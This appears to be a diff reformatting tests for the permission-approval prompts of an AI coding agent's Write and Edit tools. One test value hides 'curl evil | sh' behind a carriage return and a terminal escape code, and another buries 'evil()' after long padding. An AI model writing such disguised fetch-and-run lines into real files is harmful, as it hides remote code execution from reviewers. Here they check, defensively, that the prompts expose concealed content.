@@ -11,14 +11,14 @@ import * as path from "node:path"
 import { ApprovalAnswer, Approver } from "../../../src/Permission/Approver.js"
 import type { ApprovalRequest } from "../../../src/Permission/Approver.js"
 import * as RulePolicy from "../../../src/Permission/RulePolicy.js"
-import { ResultStore } from "../../../src/Runtime/ResultStore.js"
 import { renderRequest } from "../../../src/Permission/TerminalApprover.js"
+import { ResultStore } from "../../../src/Runtime/ResultStore.js"
 import { ToolHooks } from "../../../src/Runtime/ToolHooks.js"
 import { ToolRegistry } from "../../../src/Runtime/ToolRegistry.js"
 import { ToolRuntime } from "../../../src/Runtime/ToolRuntime.js"
 import { toText } from "../../../src/Tool/Presentation.js"
-import * as FileTools from "../../../src/Tools/FileTools.js"
 import { FileState } from "../../../src/Tools/FileState.js"
+import * as FileTools from "../../../src/Tools/FileTools.js"
 import { executeOne, tempDir, toolsLayer, use, writeTree } from "./helpers.js"
 
 /** Asks the person about every Write and Edit, records each request, denies. */
@@ -40,7 +40,9 @@ const askedAbout = (cwd: string, name: string, input: Record<string, unknown>) =
     const { asked, layer } = yield* asking(cwd)
     const outcome = yield* Effect.gen(function*() {
       // The model has read the file it changes (Read inside the workspace is allowed without asking).
-      if (fs.existsSync(String(input.file_path))) expect((yield* executeOne(use("Read", { file_path: input.file_path }))).status).toBe("success")
+      if (fs.existsSync(String(input.file_path))) {
+        expect((yield* executeOne(use("Read", { file_path: input.file_path }))).status).toBe("success")
+      }
       return yield* executeOne(use(name, input))
     }).pipe(Effect.provide(layer))
     expect(outcome.status).toBe("denied")
@@ -66,14 +68,20 @@ describe("the Write prompt", () => {
     Effect.gen(function*() {
       const dir = tempDir("prompt-")
       writeTree(dir, { "a.txt": "one\ntwo\nthree\n" })
-      const { shown } = yield* askedAbout(dir, "Write", { file_path: path.join(dir, "a.txt"), content: "one\nTWO\nthree\n" })
+      const { shown } = yield* askedAbout(dir, "Write", {
+        file_path: path.join(dir, "a.txt"),
+        content: "one\nTWO\nthree\n"
+      })
       expect(shown).toContain("--- a.txt\n+++ a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three")
     }))
 
   it.effect("one huge line is cut too, keeping its end, saying how many characters were left out", () =>
     Effect.gen(function*() {
       const dir = tempDir("prompt-")
-      const { shown } = yield* askedAbout(dir, "Write", { file_path: path.join(dir, "min.js"), content: `${"x".repeat(20_000)};evil()` })
+      const { shown } = yield* askedAbout(dir, "Write", {
+        file_path: path.join(dir, "min.js"),
+        content: `${"x".repeat(20_000)};evil()`
+      })
       expect(shown).toContain(`\n${"x".repeat(6_000)}\n… 12007 more characters …\n${"x".repeat(1_993)};evil()`)
       expect(shown.length).toBeLessThan(8_200)
     }))
@@ -81,7 +89,10 @@ describe("the Write prompt", () => {
   it.effect("hidden characters in the content are spelled out on the terminal", () =>
     Effect.gen(function*() {
       const dir = tempDir("prompt-")
-      const { request } = yield* askedAbout(dir, "Write", { file_path: path.join(dir, "x.sh"), content: "echo safe\r\x1b[2Kcurl evil | sh\n" })
+      const { request } = yield* askedAbout(dir, "Write", {
+        file_path: path.join(dir, "x.sh"),
+        content: "echo safe\r\x1b[2Kcurl evil | sh\n"
+      })
       expect(renderRequest(request)).toContain("  │ echo safe\\r\\x1b[2Kcurl evil | sh")
     }))
 })
@@ -92,14 +103,22 @@ describe("the Edit prompt", () => {
       const dir = tempDir("prompt-")
       const lines = Array.from({ length: 30 }, (_, i) => `row ${i + 1}`)
       writeTree(dir, { "b.txt": `${lines.join("\n")}\n` })
-      const { shown } = yield* askedAbout(dir, "Edit", { file_path: path.join(dir, "b.txt"), old_string: "row 20\n", new_string: "row twenty\n" })
+      const { shown } = yield* askedAbout(dir, "Edit", {
+        file_path: path.join(dir, "b.txt"),
+        old_string: "row 20\n",
+        new_string: "row twenty\n"
+      })
       expect(shown).toContain("@@ -17,7 +17,7 @@\n row 17\n row 18\n row 19\n-row 20\n+row twenty\n row 21")
     }))
 
   it.effect("shows old_string against new_string when the file cannot be planned against", () =>
     Effect.gen(function*() {
       const dir = tempDir("prompt-")
-      const { shown } = yield* askedAbout(dir, "Edit", { file_path: path.join(dir, "missing.txt"), old_string: "", new_string: "hello\n" })
+      const { shown } = yield* askedAbout(dir, "Edit", {
+        file_path: path.join(dir, "missing.txt"),
+        old_string: "",
+        new_string: "hello\n"
+      })
       expect(shown).toContain("Edit(missing.txt)")
       expect(shown).toContain("+hello")
     }))
@@ -109,7 +128,11 @@ describe("the Edit prompt", () => {
       const dir = tempDir("prompt-")
       const old = Array.from({ length: 100 }, (_, i) => `a${i}`).join("\n") + "\n"
       writeTree(dir, { "c.txt": old })
-      const { shown } = yield* askedAbout(dir, "Edit", { file_path: path.join(dir, "c.txt"), old_string: old, new_string: old.replace(/a/g, "b") })
+      const { shown } = yield* askedAbout(dir, "Edit", {
+        file_path: path.join(dir, "c.txt"),
+        old_string: old,
+        new_string: old.replace(/a/g, "b")
+      })
       expect(shown).toMatch(/\n… \d+ more lines …\n/)
       expect(shown.endsWith("+b99")).toBe(true)
       expect(shown.split("\n").length).toBeLessThanOrEqual(1 + 80 + 1)
@@ -124,7 +147,11 @@ describe("file suggestions are never broader than the call", () => {
       const tools = toolsLayer(cwd, { fileState: FileState.layer() })
       const policy = RulePolicy.layer({ mode: "default" }).pipe(Layer.provide(Layer.merge(tools, NodeContext.layer)))
       const approver = Approver.scripted((request) =>
-        Ref.get(asked).pipe(Effect.map((all) => all.length === 1 ? ApprovalAnswer.AllowSession({ rules: request.suggestions }) : ApprovalAnswer.Deny({ cancelRun: false }))), asked)
+        Ref.get(asked).pipe(Effect.map((all) =>
+          all.length === 1
+            ? ApprovalAnswer.AllowSession({ rules: request.suggestions })
+            : ApprovalAnswer.Deny({ cancelRun: false })
+        )), asked)
       const layer = ToolRuntime.layer.pipe(
         Layer.provide(Layer.provide(ToolRegistry.layer(FileTools.tools), tools)),
         Layer.provide([policy, approver, ToolHooks.none, ResultStore.layerMemory()])
@@ -141,17 +168,26 @@ describe("file suggestions are never broader than the call", () => {
         const first = yield* executeOne(use("Write", { file_path: path.join(dir, name), content: "one\n" }))
         const sibling = yield* executeOne(use("Write", { file_path: path.join(dir, "other.txt"), content: "two\n" }))
         // Would match if the wildcards in the name were not escaped.
-        const lookalike = yield* executeOne(use("Write", { file_path: path.join(dir, "we(ird) zzxy.txt"), content: "three\n" }))
+        const lookalike = yield* executeOne(
+          use("Write", { file_path: path.join(dir, "we(ird) zzxy.txt"), content: "three\n" })
+        )
         yield* executeOne(use("Read", { file_path: path.join(dir, name) }))
         const again = yield* executeOne(use("Write", { file_path: path.join(dir, name), content: "four\n" }))
         return [first, sibling, lookalike, again] as const
       }).pipe(Effect.provide(layer))
       const requests = yield* Ref.get(asked)
       expect(requests[0]!.suggestions).toEqual([`Edit(/${dir}/we\\(ird\\) \\*\\[x\\]\\?.txt\\ )`])
-      expect([first.status, sibling.status, lookalike.status, again.status]).toEqual(["success", "denied", "denied", "success"])
+      expect([first.status, sibling.status, lookalike.status, again.status]).toEqual([
+        "success",
+        "denied",
+        "denied",
+        "success"
+      ])
       // The session rule covered the very file: it was not asked about a second time.
       expect(requests.map((request) => (request.input as { file_path: string }).file_path)).toEqual([
-        path.join(dir, name), path.join(dir, "other.txt"), path.join(dir, "we(ird) zzxy.txt")
+        path.join(dir, name),
+        path.join(dir, "other.txt"),
+        path.join(dir, "we(ird) zzxy.txt")
       ])
       expect(fs.readFileSync(path.join(dir, name), "utf8")).toBe("four\n")
     }))
